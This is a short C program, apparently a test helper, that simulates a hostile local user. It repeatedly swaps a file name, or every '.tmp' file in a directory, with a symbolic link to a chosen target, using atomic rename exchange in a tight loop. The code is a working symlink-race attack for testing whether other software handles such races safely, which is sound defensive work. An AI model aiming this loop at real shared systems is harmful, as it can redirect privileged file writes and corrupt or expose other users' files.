/* Swaps a name with a symbolic link in a tight loop, as a hostile user does.
 *
 * usage: attacker NAME TARGET
 * Each line on standard input is a directory: the loop moves there. Standard output gets one
 * line for each, once the loop runs there. The end of the input ends the program.
 *
 * NAME is a path below that directory. If its last part is "*", every name there that ends in
 * ".tmp" is swapped.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char LINK[] = ".link";

static void swap(int directory, const char *name) {
    renameat2(directory, name, directory, LINK, RENAME_EXCHANGE);
}

/* Temporary names have a random part, so that the directory must be read. */
static void swap_temporary(int directory) {
    int copy = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *entries = copy < 0 ? NULL : fdopendir(copy);
    if (!entries)
        return;
    for (struct dirent *entry; (entry = readdir(entries));) {
        size_t length = strlen(entry->d_name);
        if (length > 4 && strcmp(entry->d_name + length - 4, ".tmp") == 0)
            swap(directory, entry->d_name);
    }
    closedir(entries);
}

int main(int argc, char **argv) {
    char line[8192];
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};

    if (argc != 3)
        return 2;
    /* A buffer would hide from poll what was read already. */
    setvbuf(stdin, NULL, _IONBF, 0);
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\n")] = 0;
        char path[sizeof line + 256];
        snprintf(path, sizeof path, "%s/%s", line, argv[1]);
        char *name = strrchr(path, '/');
        *name++ = 0;
        int directory = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (directory < 0 ||
            (symlinkat(argv[2], directory, LINK) && faccessat(directory, LINK, F_OK, 0)))
            return 3;
        puts("ready");
        fflush(stdout);
        do {
            for (int i = 0; i < 256; i++) {
                if (strcmp(name, "*") == 0)
                    swap_temporary(directory);
                else
                    swap(directory, name);
            }
        } while (poll(&input, 1, 0) == 0);
        close(directory);
    }
    return 0;
}
